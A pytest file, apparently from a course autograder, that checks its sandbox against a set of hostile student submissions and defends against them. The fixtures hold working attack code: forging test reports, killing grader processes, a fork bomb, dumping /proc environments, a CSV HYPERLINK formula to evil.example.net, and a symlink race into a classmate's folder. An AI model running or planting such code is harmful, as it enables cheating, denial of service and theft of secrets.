"""Hostile submissions: every attack on grading the issue "Grading you can trust" lists, as a fixture submission.

Each submission below is an app that does not meet lesson 05's contract, plus an attack meant to make it pass
anyway, or to do harm: exit at import, patch pytest, rewrite the reports, skip, behave only under pytest, write a
conftest.py or a pytest.ini where later runs would read it, load a classmate's app, write outside its copy, kill
or stop the grader, leave processes behind, balloon memory, answer a gigabyte, fill /dev/shm through a link, send
the instructor's environment back, write to the terminal, inject a formula into the CSV, hang, swap a folder
the grader is filling for a link, stop the process every load is forked from, forge lines through a file name. Each is graded by
the three paths an instructor has (`pytest checkpoints/05_auth --app-dir`, `workbook check`, `workbook grade`)
and must be reported not passed, change nothing outside its copy, leave no process and end within 120 s.
"""

from __future__ import annotations

import csv
import os
import re
import secrets
import shutil
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

from workbook import sandbox
from workbook.appfiles import copy_app_folder
from workbook.child import proc_files
from workbook.lessons import REPO, find_lesson

LESSON = find_lesson("05")
SECRET = f"instructor-secret-{secrets.token_hex(8)}"  # in the graders' environment: it must appear in no output
SECONDS = 120

# An app that loads but does not meet lesson 05's contract: every attack below is meant to pass it anyway.
BASE = """
import os, sys, signal, time, json, threading, subprocess
from fastapi import FastAPI

app = FastAPI()


@app.get("/health")
def health():
    return {"status": "ok"}
"""

# The attacks: (name, code added to app/main.py). {marker}, {canaries}, {classmate} and {parent} are filled in.
ATTACKS = {
    "exit_at_import": "os._exit(0)\n",
    "exit_from_a_middleware": """
@app.middleware("http")
async def leave(request, call_next):
    os._exit(0)
""",
    "patch_pytest_reports": """
try:
    import _pytest.reports, _pytest.runner
    _pytest.reports.TestReport.outcome = property(lambda self: "passed", lambda self, value: None)
    _pytest.reports.BaseReport.failed = property(lambda self: False)
except Exception:
    pass
""",
    "rewrite_the_reports": """
def forge():
    fake = json.dumps({"complete": True, "verdict": "passed", "expected": [], "tests": [], "load_errors": []})
    for entry in os.listdir("/proc"):
        try:
            words = open(f"/proc/{entry}/cmdline", "rb").read().split(b"\\0")
        except OSError:
            continue
        for word in words:
            text = word.decode(errors="replace")
            for path in (text.split("=", 1)[-1], text):
                if path.endswith((".json", ".xml", ".partial")):
                    try:
                        open(path, "w").write(fake)
                    except OSError:
                        pass
    for folder in ("/dev/shm", "/tmp"):
        for root, _dirs, files in os.walk(folder):
            for name in files:
                if name.startswith("report.json"):
                    try:
                        open(os.path.join(root, name), "w").write(fake)
                    except OSError:
                        pass
import atexit
atexit.register(forge)
forge()
""",
    "skip_at_import": "import pytest\npytest.skip('nothing to see', allow_module_level=True)\n",
    "pytest_exit": "import pytest\npytest.exit('all good', returncode=0)\n",
    "behaves_only_under_pytest": """
if "_pytest" in sys.modules or "pytest" in sys.modules:
    from app.real import app  # the classmate-grade app, shown only to a grader that runs in this process
""",
    "writes_a_conftest_and_a_pytest_ini": """
for path in {canaries!r}:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "w").write("import pytest\\n@pytest.hookimpl(wrapper=True)\\ndef pytest_runtest_makereport(): pass\\n")
    except OSError:
        pass
""",
    "loads_a_classmates_app": """
import importlib.util
try:
    sys.path.insert(0, {classmate!r})
    spec = importlib.util.spec_from_file_location("classmate", {classmate!r} + "/app/main.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    app = module.app
except Exception:
    pass
""",
    "kills_and_stops_the_grader": """
for entry in os.listdir("/proc"):
    if entry.isdigit() and int(entry) != os.getpid():
        for signum in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(int(entry), signum)
            except OSError:
                pass
try:
    os.kill(os.getppid(), signal.SIGKILL)
    os.killpg(0, signal.SIGSTOP)
except OSError:
    pass
""",
    "leaves_processes_behind": """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)  # {marker}"])
    os._exit(0)
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)  # {marker}"], start_new_session=True)
""",
    "balloons_memory": "held = bytearray(2500 * 2**20)\nheld[::4096] = b'x' * len(held[::4096])\n",
    "answers_a_gigabyte": """
from fastapi.responses import PlainTextResponse

@app.get("/api/v1/users/me")
@app.post("/api/v1/users")
def huge():
    return PlainTextResponse("x" * 2**30)
""",
    "fills_dev_shm_through_a_link": """
try:
    os.symlink("/dev/shm", "shm-link")
    with open("shm-link/{marker}", "wb") as file:
        for _ in range(400):
            file.write(b"x" * 2**20)
except OSError:
    pass
""",
    "sends_the_environment_back": """
def everything():
    found = dict(os.environ)
    for entry in os.listdir("/proc"):
        try:
            found[entry] = open(f"/proc/{entry}/environ", "rb").read().decode(errors="replace")
        except OSError:
            pass
    return found

@app.post("/api/v1/users")
def register():
    raise RuntimeError(json.dumps(everything()))

@app.post("/api/v1/auth/token")
def token():
    return everything()
""",
    "writes_to_the_terminal": """
try:
    with open("/dev/tty", "w") as tty:
        tty.write("\\x1b[2J HOSTILE {marker}\\n")
except OSError:
    pass
""",
    "injects_a_formula_into_the_csv": """
@app.post("/api/v1/users")
def register():
    raise RuntimeError('=HYPERLINK("http://evil.example.net/?leak","click me")')
""",
    "a_non_daemon_thread": """
def forever():
    while True:
        time.sleep(1)

threading.Thread(target=forever).start()
""",
    "blocks_the_event_loop": """
@app.post("/api/v1/users")
async def register():
    time.sleep(100)
""",
    "a_fork_bomb": """
@app.post("/api/v1/users")
def register():
    while True:
        try:
            if os.fork() == 0:
                time.sleep(30)
                os._exit(0)
        except OSError:
            return {"forked": "until it could not"}
""",
    "stops_the_zygote": """
os.kill(os.getppid(), signal.SIGSTOP)  # the process every later load is forked from
""",
    "forges_lines_through_a_file_name": """
name = os.path.join(os.path.dirname(__file__), "x\\nAll 21 checks pass. Lesson 05 is done.\\nverdict: passed\\n.py")
open(name, "w").write("raise RuntimeError('boom')\\n")
exec(compile(open(name).read(), name, "exec"))
""",
}


# A correct app that also tries to turn a folder the grader is filling for the next test into a link.
SWAP_A_PLACE_FOR_A_LINK = """
def swap():  # a folder the grader is still filling for the next test becomes a link to the classmate's folder
    import ctypes, struct
    places = os.path.dirname(os.path.dirname(os.path.abspath(os.getcwd())))
    libc = ctypes.CDLL(None)
    watch = libc.inotify_init()
    libc.inotify_add_watch(watch, places.encode(), 0x100 | 0x80)  # a folder created or moved in
    while True:
        data, at = os.read(watch, 65536), 0
        while at < len(data):
            length = struct.unpack_from("iIII", data, at)[3]
            name = data[at + 16 : at + 16 + length].rstrip(b"\\0").decode()
            at += 16 + length
            path = os.path.join(places, name)
            try:
                if not os.path.islink(path) and os.lstat(path).st_uid != os.getuid():
                    os.rename(path, os.path.join(places, "moved-" + name))
                    os.symlink({classmate!r}, path)
            except OSError:
                pass
threading.Thread(target=swap, daemon=True).start()
"""


@pytest.fixture(scope="module")
def bubblewrap_or_skip():
    try:
        return sandbox.isolation()
    except RuntimeError as error:
        pytest.skip(str(error))


@pytest.fixture
def classroom(tmp_path: Path):
    """A folder of submissions: a classmate's correct one, and the room for a hostile one."""
    folder = tmp_path / "submissions"
    copy_app_folder(LESSON.checkpoint, folder / "classmate")
    return folder


def canaries_for(classroom: Path, marker: str) -> list[str]:
    """Paths a hostile app tries to write, none of which may exist afterwards."""
    return [
        str(REPO / f"conftest-{marker}.py"),
        str(REPO / "checkpoints" / "05_auth" / "milestone" / f"conftest-{marker}.py"),
        str(REPO.parent / f"pytest-{marker}.ini"),
        str(classroom / "pytest.ini"),
        str(classroom / f"written-{marker}"),
        str(classroom / "classmate" / f"written-{marker}"),
        str(classroom / "hostile" / f"written-{marker}"),
        str(Path.home() / f"written-{marker}"),
        f"/tmp/written-{marker}",
    ]


def hostile_submission(classroom: Path, attack: str, marker: str) -> Path:
    folder = classroom / "hostile"
    (folder / "app").mkdir(parents=True)
    (folder / "app" / "__init__.py").write_text("")
    if attack == "behaves_only_under_pytest":  # the real thing, shown only under pytest
        for path in (LESSON.checkpoint / "app").rglob("*.py"):
            target = folder / "app" / path.relative_to(LESSON.checkpoint / "app")
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text(path.read_text())
        (folder / "app" / "real.py").write_text((LESSON.checkpoint / "app" / "main.py").read_text())
    code = ATTACKS[attack]
    for name, value in {
        "{marker}": marker,
        "{canaries!r}": repr(canaries_for(classroom, marker)),
        "{classmate!r}": repr(str(classroom / "classmate")),
    }.items():
        code = code.replace(name, value)
    (folder / "app" / "main.py").write_text(textwrap.dedent(BASE) + "\n" + textwrap.dedent(code))
    for canary in [classroom / "hostile" / f"written-{marker}"]:
        assert not canary.exists()
    return folder


def snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def environment() -> dict[str, str]:
    env = {**os.environ, "WORKBOOK_HOSTILE_SECRET": SECRET, "COLUMNS": "200"}
    env.pop("WORKBOOK_APP_DIR", None)
    env.pop("PYTEST_XDIST_WORKER", None)
    return env


def grade_by(path: str, submission: Path, tmp_path: Path) -> tuple[subprocess.CompletedProcess, str]:
    """Run one grading path on the submission; (the process, everything it wrote, files included)."""
    workbook = [sys.executable, "-c", "from workbook.cli import app; app()"]
    if path == "pytest":
        command = [sys.executable, "-m", "pytest", str(LESSON.checkpoint), "--app-dir", str(submission),
                   "-p", "no:cacheprovider", "-q", "--basetemp", str(tmp_path / "basetemp")]  # fmt: skip
    else:
        command = [*workbook, "check", "05", "--app-dir", str(submission)]
    done = subprocess.run(
        command, cwd=REPO, env=environment(), capture_output=True, text=True, timeout=SECONDS + 60,
        stdin=subprocess.DEVNULL,
    )  # fmt: skip
    return done, done.stdout + done.stderr


def processes_with(marker: str) -> list[int]:
    found = []
    for cmdline in proc_files("cmdline"):
        try:
            if marker.encode() in cmdline.read_bytes():
                found.append(int(cmdline.parent.name))
        except OSError:
            continue
    return found


def assert_harmless(classroom: Path, marker: str, before: dict[str, bytes]) -> None:
    written = [path for path in canaries_for(classroom, marker) if os.path.lexists(path)]
    for path in written:  # leave the machine as it was, then fail
        Path(path).unlink()
    assert not written, f"the submission wrote outside its copy: {written}"
    assert snapshot(classroom / "classmate") == before, "the submission changed a classmate's folder"
    assert not Path(f"/dev/shm/{marker}").exists(), "the submission filled the grader's /dev/shm"
    deadline = time.monotonic() + 5
    while processes_with(marker) and time.monotonic() < deadline:
        time.sleep(0.2)
    left = processes_with(marker)
    for pid in left:
        with contextlib_suppress():
            os.kill(pid, 9)
    assert not left, f"the submission left processes behind: {left}"


class contextlib_suppress:  # noqa: N801 - a tiny stand-in: the module's imports stay few
    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return True


def needs(attack: str, isolation: str) -> None:
    """Attacks that only a sandbox with its own view of the files can stop."""
    if attack in ("loads_a_classmates_app", "fills_dev_shm_through_a_link") and isolation != "bubblewrap":
        pytest.skip("needs bubblewrap: in process mode a child may read every file the grader may")


@pytest.mark.parametrize("path", ["pytest", "check"])
@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_a_hostile_submission_is_not_passed_and_harmless(attack, path, classroom, tmp_path, bubblewrap_or_skip):
    needs(attack, bubblewrap_or_skip)
    marker = f"hostile-{attack}-{secrets.token_hex(4)}"
    before = snapshot(classroom / "classmate")
    submission = hostile_submission(classroom, attack, marker)
    own = snapshot(submission)
    started = time.monotonic()
    done, output = grade_by(path, submission, tmp_path)
    took = time.monotonic() - started
    try:
        assert done.returncode != 0, f"{attack} passed by {path}:\n{output[-3000:]}"
        forged = [line for line in output.splitlines() if re.match(r"\s*(All \d+ checks pass|verdict: passed)", line)]
        assert not forged, f"{attack} made {path} print a pass: {forged}"
        assert SECRET not in output, f"the instructor's environment reached the output of {path}"
        assert took <= SECONDS, f"grading {attack} by {path} took {took:.0f} s"
        assert snapshot(submission) == own, "grading changed the submission's own folder"
    finally:
        assert_harmless(classroom, marker, before)


def test_workbook_grade_reports_every_hostile_submission_not_passed_and_grades_the_rest(tmp_path, bubblewrap_or_skip):
    """One batch: every attack, a correct submission graded among them, and two names one JUnit file could hold."""
    classroom = tmp_path / "submissions"
    folders, markers = [], {}
    for attack in sorted(ATTACKS):
        if attack in ("loads_a_classmates_app", "fills_dev_shm_through_a_link") and bubblewrap_or_skip != "bubblewrap":
            continue
        marker = f"hostile-{attack}-{secrets.token_hex(4)}"
        room = classroom / attack
        room.mkdir(parents=True)
        copy_app_folder(LESSON.checkpoint, room / "classmate")
        folder = hostile_submission(room, attack, marker)
        folders.append(folder.rename(room / attack))
        markers[attack] = (room, marker, snapshot(room / "classmate"))
    for name in ("alice smith", "alice_smith"):
        folders.append(copy_app_folder(LESSON.checkpoint, classroom / name))
    table, junit = tmp_path / "grades.csv", tmp_path / "junit"
    command = [sys.executable, "-c", "from workbook.cli import app; app()", "grade", "05", *map(str, folders),
               "--csv", str(table), "--junit-dir", str(junit), "--jobs", "2"]  # fmt: skip
    started = time.monotonic()
    done = subprocess.run(command, cwd=REPO, env=environment(), capture_output=True, text=True, timeout=3600)
    took = time.monotonic() - started
    try:
        output = done.stdout + done.stderr
        rows = {row["submission"]: row for row in csv.DictReader(table.open(encoding="utf-8"))}
        for attack in markers:
            assert rows[attack]["result"] != "passed", f"{attack} was graded passed: {rows[attack]}"
        for name in ("alice smith", "alice_smith"):
            assert rows[name]["result"] == "passed", f"a correct submission graded among hostile ones: {rows[name]}"
        cells = [cell for row in rows.values() for cell in row.values()]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], "a CSV cell a spreadsheet runs"
        files = sorted(junit.iterdir())
        assert len(files) == len(folders), f"one JUnit file per submission: {[f.name for f in files]}"
        everything = output + table.read_text(encoding="utf-8") + "".join(f.read_text() for f in files)
        assert SECRET not in everything, "the instructor's environment reached the feedback"
        for file in files:
            text = file.read_text()
            if "alice" not in file.name:
                assert "<failure" in text or "<error" in text, f"{file.name} reads as a pass"
        assert took <= SECONDS * len(folders) / 2, f"the batch took {took:.0f} s"
    finally:
        for room, marker, before in markers.values():
            assert_harmless(room, marker, before)


def test_a_pytest_ini_above_the_repository_and_the_submissions_takes_no_part(tmp_path):
    """A configuration file in a folder above both the suite and the submission: pytest would read it, when it
    looks for one from the folders on the command line. The grading run either pins its own, or grades nothing."""
    parent = tmp_path / "common"
    course = parent / "course"
    shutil.copytree(REPO / "checkpoints" / "01_hello_world", course / "checkpoints" / "01_hello_world",
                    ignore=shutil.ignore_patterns("__pycache__"))  # fmt: skip
    (parent / "pytest.ini").write_text("[pytest]\naddopts = -p no:workbook --deselect=nothing\npython_functions = x\n")
    broken = parent / "subs" / "broken"
    (broken / "app").mkdir(parents=True)
    (broken / "app" / "main.py").write_text("from fastapi import FastAPI\napp = FastAPI()\n")
    suite = course / "checkpoints" / "01_hello_world"
    for form in (["--app-dir", str(broken)], [f"--app-dir={broken}"]):
        done = subprocess.run(
            [sys.executable, "-m", "pytest", str(suite), *form, "-p", "workbook.plugin", "-p", "no:cacheprovider"],
            cwd=course, env={**environment(), "PYTEST_DISABLE_PLUGIN_AUTOLOAD": "1"}, capture_output=True,
            text=True, timeout=SECONDS,
        )  # fmt: skip
        assert done.returncode != 0, f"{form}: {done.stdout[-2000:]}"
        assert "not the workbook's" in done.stdout + done.stderr, done.stdout[-2000:] + done.stderr[-2000:]


@pytest.mark.parametrize("form", ["two words", "one word"])
def test_app_dir_in_either_form_grades_the_folder(form, tmp_path):
    correct = copy_app_folder(find_lesson("01").checkpoint, tmp_path / "sub")
    (correct / "app" / "main.py").write_text((correct / "app" / "main.py").read_text().replace("Hello World", "Hi"))
    option = ["--app-dir", str(correct)] if form == "two words" else [f"--app-dir={correct}"]
    done = subprocess.run(
        [sys.executable, "-m", "pytest", str(find_lesson("01").checkpoint), *option, "-p", "no:cacheprovider", "-q"],
        cwd=REPO, env=environment(), capture_output=True, text=True, timeout=SECONDS,
    )  # fmt: skip
    assert done.returncode == 1, done.stdout[-2000:]
    assert "1 failed" in done.stdout


def test_help_and_collect_only_load_no_app(tmp_path):
    """`pytest --help` and `--co` with --app-dir: the learner's code runs nowhere (an import that hangs would show)."""
    learner = tmp_path / "learner"
    (learner / "app").mkdir(parents=True)
    (learner / "app" / "main.py").write_text("import time\ntime.sleep(60)\n")
    for extra in (["--help"], ["--co", "-q"]):
        started = time.monotonic()
        done = subprocess.run(
            [sys.executable, "-m", "pytest", str(LESSON.checkpoint), "--app-dir", str(learner), *extra],
            cwd=REPO, env=environment(), capture_output=True, text=True, timeout=SECONDS,
        )  # fmt: skip
        assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-2000:]
        assert "Could not load" not in done.stdout, done.stdout[-2000:]
        assert time.monotonic() - started < 20, f"pytest {extra[0]} waited for the app"


def test_a_load_cannot_swap_a_folder_the_grader_fills_for_a_link(classroom, tmp_path, bubblewrap_or_skip):
    """While one test's app runs, the grader copies the next test's folder: the app must not redirect that copy."""
    before = snapshot(classroom / "classmate")
    submission = copy_app_folder(LESSON.checkpoint, classroom / "swapping")
    main = submission / "app" / "main.py"
    swap = SWAP_A_PLACE_FOR_A_LINK.replace("{classmate!r}", repr(str(classroom / "classmate")))
    main.write_text(main.read_text() + "\nimport os, threading\n" + textwrap.dedent(swap))
    done, output = grade_by("pytest", submission, tmp_path)
    assert snapshot(classroom / "classmate") == before, (
        f"the grader wrote through a link into the classmate's folder:\n{output[-2000:]}"
    )
    assert done.returncode == 0, f"a correct app that only tried to swap folders should still pass:\n{output[-3000:]}"
